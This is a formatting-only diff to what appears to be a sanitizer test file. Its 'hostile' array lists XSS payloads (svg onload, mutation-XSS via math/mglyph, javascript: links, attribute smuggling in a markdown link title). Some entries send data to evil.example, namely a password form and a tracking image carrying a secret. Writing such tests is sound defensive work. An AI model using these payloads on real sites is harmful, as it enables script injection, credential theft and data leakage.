@@ -9,7 +9,7 @@ const hostile = [
   "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
   "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
   "<svg><style><img src=x onerror=alert(1)></style></svg>",
-  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   "<math href='javascript:alert(1)'>x</math>",
   "<form action=https://evil.example><input name=password><button>ok</button></form>",
   "<iframe src='javascript:alert(1)'></iframe>",
@@ -36,7 +36,7 @@ const hostile = [
   "![x](javascript:alert(1))",
   "![x](https://evil.example/track.png?secret)",
   "![x](data:image/svg+xml;base64,PHN2Zy8+)",
-  "[x](https://ok.example \"onmouseover=alert(1)\")",
+  '[x](https://ok.example "onmouseover=alert(1)")',
   "```<img/onerror=alert(1)>\ncode\n```",
   "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
   "> <script>alert(1)</script>",
@@ -46,7 +46,8 @@ const hostile = [
   "$\\href{javascript:alert(1)}{x}$",
 ];
 
-const forbiddenTags = "script,style,iframe,object,embed,form,input,button,svg,math,link,base,meta,template,video,source,noscript";
+const forbiddenTags =
+  "script,style,iframe,object,embed,form,input,button,svg,math,link,base,meta,template,video,source,noscript";
 
 function dom(html: string): HTMLElement {
   const body = document.createElement("div");
